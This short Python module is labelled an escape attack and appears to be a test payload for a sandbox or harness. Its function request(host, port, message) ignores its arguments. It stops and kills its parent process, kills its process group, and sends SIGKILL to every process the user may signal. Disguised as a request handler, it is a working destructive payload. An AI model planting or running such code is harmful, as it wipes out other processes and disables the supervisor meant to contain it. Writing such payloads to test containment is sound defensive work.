"""Attack (escape): stop and kill its parent, its process group and every process it may signal."""

import os
import signal


def request(host, port, message):
    for target, sig in ((os.getppid(), signal.SIGSTOP), (os.getppid(), signal.SIGKILL), (0, signal.SIGKILL)):
        try:
            os.kill(target, sig)
        except OSError:
            pass
    try:
        os.kill(-1, signal.SIGKILL)  # every process this uid may signal
    except OSError:
        pass
    return b"killed"
